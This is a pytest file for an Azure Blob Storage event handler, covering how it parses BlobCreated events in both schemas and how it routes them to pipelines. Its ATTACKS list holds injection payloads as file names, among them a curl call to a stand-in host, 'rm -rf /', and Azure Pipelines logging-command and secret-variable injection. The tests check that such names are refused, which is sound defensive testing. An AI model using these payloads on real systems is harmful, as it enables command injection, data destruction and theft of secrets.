"""BlobCreated events as Azure Storage publishes them, in both schemas and of every API.

The shapes are those of Microsoft's schema reference, "Azure Blob Storage as an Event Grid source".
"""

import json
from collections.abc import Callable
from typing import Any

import pytest

from handlers import DISPATCH, EVENT_TYPES
from shared.deciding import decide
from shared.errors import IncompleteEvent
from shared.events.event import Ignored, Occurrence, parse_event
from shared.routing.table import Match, Refusal, journal_key
from tests.support.builders import event_text, routes
from tools.events.documents import Schema, in_schema

TYPE = "Microsoft.Storage.BlobCreated"
ACCOUNT = "/subscriptions/0f/resourceGroups/Storage/providers/Microsoft.Storage/storageAccounts/contosodata"
ROUTE = f"name: retrain\nevent: {TYPE}\npipeline: p\nparameters: {{ path: '{{{{ path }}}}' }}"

Text = Callable[..., str]


def event_grid(path: str, url: str = "", container: str = "landing", subject: str = "", **data: Any) -> str:
    """Return the event of a blob that was uploaded in blocks. ``data`` replaces or adds keys; None removes them."""
    document = {
        "api": "PutBlockList",
        "clientRequestId": "6d79dbfb-0e37-4fc4-981f-442c9ca65760",
        "requestId": "831e1650-001e-001b-66ab-eeb76e000000",
        "eTag": '"0x8D4BCC2E4835CD0"',
        "contentType": "application/octet-stream",
        "contentLength": 524288,
        "blobType": "BlockBlob",
        "url": url or f"https://contosodata.blob.core.windows.net/{container}/{path}",
        "sequencer": "00000000000004420000000000028963",
        "storageDiagnostics": {"batchId": "b68529f3-68cd-4744-baa4-3c0498ec19f0"},
    }
    return event_text(
        "",
        {key: value for key, value in (document | data).items() if value is not None},
        id="831e1650-001e-001b-66ab-eeb76e069631",
        eventType=TYPE,
        topic=ACCOUNT,
        subject=subject or f"/blobServices/default/containers/{container}/blobs/{path}",
        dataVersion="",
    )


def cloud(path: str, **data: Any) -> str:
    return json.dumps(in_schema(json.loads(event_grid(path, **data)), Schema.CLOUD))


pytestmark = pytest.mark.parametrize("text", [event_grid, cloud])


def meaning(raw: str) -> Occurrence | Ignored:
    event = parse_event(raw)
    return DISPATCH[event.type](event)


def occurrence(raw: str) -> Occurrence:
    found = meaning(raw)
    assert isinstance(found, Occurrence), found
    return found


def test_a_file_in_folders(text: Text) -> None:
    found = occurrence(text("raw/2026/Part-1.CSV", contentType="text/csv"))
    assert found.names == {
        "account": "contosodata",
        "container": "landing",
        "path": "raw/2026/Part-1.CSV",
        "folder": "raw/2026",
        "name": "Part-1.CSV",
        "extension": "csv",
        "size": 524288,
        "content_type": "text/csv",
        "etag": "0x8D4BCC2E4835CD0",
        "api": "PutBlockList",
        "url": "https://contosodata.blob.core.windows.net/landing/raw/2026/Part-1.CSV",
    }
    assert tuple(found.names) == tuple(EVENT_TYPES[TYPE].names)
    assert repr(found.names["size"]) == "524288"
    assert not found.is_child_run
    assert found.run_end is None


@pytest.mark.parametrize(
    ("path", "folder", "name", "extension"),
    [
        ("new-file.txt", "", "new-file.txt", "txt"),
        ("a.b/archive.tar.gz", "a.b", "archive.tar.gz", "gz"),
        ("a/.gitignore", "a", ".gitignore", ""),
        ("a/README", "a", "README", ""),
        ("a/ends with.", "a", "ends with.", ""),
        ("a//b.csv", "a/", "b.csv", "csv"),
        ("blobs/containers/x/blobs/y.csv", "blobs/containers/x/blobs", "y.csv", "csv"),
    ],
)
def test_folder_name_and_extension(text: Text, path: str, folder: str, name: str, extension: str) -> None:
    names = occurrence(text(path)).names
    assert [names[key] for key in ("path", "folder", "name", "extension")] == [path, folder, name, extension]


@pytest.mark.parametrize(
    ("path", "url"),
    [
        ("raw data/Größe 5.csv", "raw%20data/Gr%C3%B6%C3%9Fe%205.csv"),
        ("raw data/Größe 5.csv", "raw data/Größe 5.csv"),
        ("データ/画像 1.png", "%E3%83%87%E3%83%BC%E3%82%BF/%E7%94%BB%E5%83%8F%201.png"),
        ("100%25/a%20b.csv", "100%2525/a%2520b.csv"),
        ("100%25/a%20b.csv", "100%25/a%20b.csv"),
        ("a#b?c&d.csv", "a#b?c&d.csv"),
        ("a+b.csv", "a+b.csv"),
    ],
)
@pytest.mark.parametrize("host", ["blob", "dfs"])
def test_a_name_with_spaces_and_any_characters(text: Text, host: str, path: str, url: str) -> None:
    """The subject has the name as it is; the URL may be encoded or not."""
    url = f"https://contosodata.{host}.core.windows.net/landing/{url}"
    names = occurrence(text(path, url=url)).names
    assert [names[key] for key in ("account", "container", "path", "url")] == ["contosodata", "landing", path, url]


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, ("contosodata", "landing", "a.csv")),
        ({"subject": "other"}, ("contosodata", "landing", "a.csv")),
        ({"subject": "x", "url": "https://h.dfs.core.windows.net/c/d%20e/f.csv"}, ("contosodata", "c", "d e/f.csv")),
        ({"container": "$root", "url": "https://contosodata.blob.core.windows.net/a.csv"},
         ("contosodata", "$root", "a.csv")),
        ({"url": "https://files.contoso.example/landing/a.csv"}, ("contosodata", "landing", "a.csv")),
    ],
)  # fmt: skip
def test_account_container_and_path(text: Text, changes: dict[str, str], expected: tuple[str, str, str]) -> None:
    names = occurrence(text("a.csv", **changes)).names
    assert tuple(names[key] for key in ("account", "container", "path")) == expected


def test_the_account_is_the_host_if_the_source_is_no_storage_account(text: Text) -> None:
    event = parse_event(text("a.csv"))._replace(source="/custom")
    found = DISPATCH[TYPE](event)
    assert isinstance(found, Occurrence)
    assert found.names["account"] == "contosodata"


@pytest.mark.parametrize(
    "data",
    [
        {"api": "PutBlob"},
        {"api": "PutBlockList"},
        {"api": "CopyBlob"},
        {"api": "FlushWithClose", "contentOffset": 524288, "eTag": "0x8D4BCC2E4835CD0"},
        {"api": "SftpCommit", "contentOffset": 0, "identity": "localuser", "clientRequestId": None},
        {"api": None, "eTag": None, "contentType": None, "sequencer": None},
        {"ETag": '"0x1"', "eTag": None, "ContentLength": "17", "contentLength": None},
    ],
)
def test_every_api_that_completes_a_file(text: Text, data: dict[str, Any]) -> None:
    assert occurrence(text("a/b.csv", **data)).names["path"] == "a/b.csv"


@pytest.mark.parametrize(
    ("api", "then"),
    [("CreateFile", "FlushWithClose"), ("SftpCreate", "SftpCommit"), ("SftpWrite", "SftpCommit")],
)
def test_a_file_that_is_still_open_is_ignored(text: Text, api: str, then: str) -> None:
    """Otherwise, each upload through Data Lake or SFTP would count twice, first without content."""
    reason = f"{api} reports a file that is not complete; {then} reports it when it is closed"
    assert meaning(text("a/b.csv", api=api, contentLength=0, contentOffset=0)) == Ignored(reason)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("raw/2026-11-28", {"api": "PutBlob"}),
        ("raw/2026-11-28", {"api": "PutBlob", "contentType": None}),
        ("raw/2026-11-28", {"api": "CopyBlob"}),
        ("raw/2026-11-28", {"api": "PutBlockList"}),
        ("raw/2026-11-28", {"contentType": "Application/Octet-Stream"}),
        ("raw/2026.11.28", {"api": "PutBlob"}),
        ("release-1.0", {"api": "PutBlob"}),
        ("table/_delta_log", {"api": "PutBlob"}),
        ("raw_$folder$", {"api": "PutBlob"}),
        ("raw/2026-11-28/", {"api": "PutBlob"}),
        ("raw/", {"api": "PutBlob", "contentType": "text/plain"}),
        ("raw/", {"api": "PutBlob", "contentLength": 1}),
        ("raw.d", {"api": "PutBlob", "contentType": "application/x-directory; charset=utf-8"}),
        ("raw", {"api": "FlushWithClose", "contentType": "httpd/unix-directory"}),
    ],
)
def test_the_mark_of_a_directory_is_ignored(text: Text, path: str, data: dict[str, Any]) -> None:
    raw = text(path, **{"contentLength": 0, **data})
    found = meaning(raw)
    assert isinstance(found, Ignored)
    assert "director" in found.reason
    assert decide(raw, DISPATCH, routes(ROUTE)).decisions == ()


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("table/_SUCCESS", {"api": "PutBlob"}),
        ("table/_SUCCESS", {"api": "FlushWithClose"}),
        ("table/DONE", {"api": "FlushWithClose"}),
        ("table/DONE", {"api": "SftpCommit"}),
        ("table/DONE", {"api": "PutBlob", "contentType": "text/plain"}),
        ("table/DONE", {"api": "PutBlob", "contentLength": 1}),
        ("table/data.ready", {"api": "PutBlob"}),
        ("table/part.csv", {"api": "PutBlob"}),
    ],
)
def test_an_empty_file_is_no_directory(text: Text, path: str, data: dict[str, Any]) -> None:
    raw = text(path, **{"contentLength": 0, **data})
    assert occurrence(raw).names["path"] == path
    assert len(decide(raw, DISPATCH, routes(ROUTE)).decisions) == 1


def test_a_redelivery_is_the_same_occurrence_and_another_content_is_not(text: Text) -> None:
    identity = occurrence(text("a/b.csv")).identity
    assert occurrence(text("a/b.csv", sequencer="1", requestId="2", eTag="0x8D4BCC2E4835CD0")).identity == identity
    others = [
        text("a/b.csv", eTag='"0x8D4BCC2E4835CD1"'),
        text("a/B.csv"),
        text("a/c.csv"),
        text("a/b.csv", container="other"),
        text("a:b.csv"),
    ]
    assert len({identity, *(occurrence(raw).identity for raw in others)}) == 1 + len(others)


def test_without_an_etag_the_event_identifies_it(text: Text) -> None:
    one = text("a/b.csv", eTag=None)
    other = one.replace("831e1650-001e-001b-66ab-eeb76e069631", "831e1650-001e-001b-66ab-eeb76e069632")
    assert occurrence(one).identity == occurrence(one).identity != occurrence(other).identity


def test_both_schemas_are_one_occurrence(text: Text) -> None:
    assert occurrence(text("a/b.csv")).identity == occurrence(event_grid("a/b.csv")).identity


def test_the_case_of_the_account_does_not_count(text: Text) -> None:
    event = parse_event(text("a/b.csv"))
    identity = occurrence(text("a/b.csv")).identity
    assert journal_key("r", event.source, identity) == journal_key("r", ACCOUNT.upper(), identity)


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        ({"url": None, "contentLength": None}, "'contentLength' is missing; 'url' is missing"),
        ({"url": "ftp://x", "subject": "x"}, "neither the subject nor 'url' of a BlobCreated event names a container"),
        ({"contentLength": "much"}, "'contentLength' must be a finite number"),
        ({"contentLength": "NaN"}, "'contentLength' must be a finite number"),
        ({"contentLength": "-Infinity"}, "'contentLength' must be a finite number"),
        ({"contentLength": "1e400"}, "'contentLength' must be a finite number"),
        ({"eTag": ["x"]}, "'eTag' must be a string"),
    ],
)
def test_incomplete_data(text: Text, data: dict[str, Any], problem: str) -> None:
    raw = text("a.csv", **{**data, "url": data["url"]} if data.get("url") else data)
    document = json.loads(raw)
    if "url" in data and data["url"] is None:
        del document["data"]["url"]
    with pytest.raises(IncompleteEvent, match=problem):
        meaning(json.dumps(document))


@pytest.mark.parametrize("size", ["1e300", -1, 0.5, 2**70])
def test_an_odd_size_is_kept(text: Text, size: str | float) -> None:
    assert occurrence(text("a.csv", contentLength=size)).names["size"] == float(size)


ATTACKS = [
    "$(curl evil.example).csv",
    "a/${{ variables.secret }}.csv",
    "$[variables.x].csv",
    "a##vso[task.setvariable variable=x]y.csv",
    "##[section]a.csv",
    "a\n##vso[task.complete]b.csv",
    "a\r\nb.csv",
    "a\tb.csv",
    "a'; rm -rf /; '.csv",
    'a"b.csv',
    "a`id`.csv",
    "a|b.csv",
    "a\u202egpj.csv",
    "a\u2028b.csv",
    "x" * 10_000 + ".csv",
    "a/" * 5_000 + "b.csv",
]


@pytest.mark.parametrize("path", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("name", ["path", "url", "folder & name"])
def test_a_hostile_name_parks_the_event(text: Text, path: str, name: str) -> None:
    """Anyone who can write to the container chooses these names."""
    templates = [f"{{{{ {each} }}}}" for each in name.split(" & ")]
    parameters = json.dumps(dict(enumerate(templates)))
    table = routes(f"name: r\nevent: {TYPE}\npipeline: p\nparameters: {parameters}")
    (refusal,) = decide(text(path), DISPATCH, table).decisions
    assert isinstance(refusal, Refusal)
    assert refusal.cause == "UnsafeValue"
    assert len(refusal.reason) < 500
    assert "\n" not in refusal.reason
    assert refusal.reason.isascii()


@pytest.mark.parametrize("path", ATTACKS[:8])
def test_no_pattern_allows_a_macro(text: Text, path: str) -> None:
    """``allow`` is a route's own, but these sequences and control characters never pass."""
    (refusal,) = decide(text(path), DISPATCH, routes(f"{ROUTE}\nallow: '(?s).*'")).decisions
    assert isinstance(refusal, Refusal)


def test_a_name_with_umlauts_needs_allow(text: Text) -> None:
    raw = text("Größe 5.csv")
    assert isinstance(decide(raw, DISPATCH, routes(ROUTE)).decisions[0], Refusal)
    (match,) = decide(raw, DISPATCH, routes(f"{ROUTE}\nallow: '[\\pL0-9 ./_-]+'")).decisions
    assert isinstance(match, Match)
    assert match.request.parameters == {"path": "Größe 5.csv"}
